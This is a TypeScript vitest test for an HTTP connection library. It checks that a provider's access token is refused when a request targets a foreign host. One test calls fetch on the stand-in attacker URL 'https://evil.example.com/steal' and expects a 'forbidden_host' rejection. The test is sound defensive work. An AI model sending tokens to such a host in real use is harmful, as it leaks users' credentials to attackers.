// src/http/request-url.ts through a connection: where a request may go with the token.
import { afterEach, describe, expect, it } from 'vitest'
import { type Fixture, setupConnected } from '../support/keeper.js'

let fixture: Fixture | undefined
afterEach(async () => {
  await fixture?.close()
  fixture = undefined
})

describe('request URLs', () => {
  it('refuses to send the token to a host that is not the provider’s', async () => {
    fixture = await setupConnected('bookingsync')
    await expect(
      fixture.keeper.connection('app/main').fetch('https://evil.example.com/steal'),
    ).rejects.toMatchObject({ code: 'forbidden_host' })
  })
})
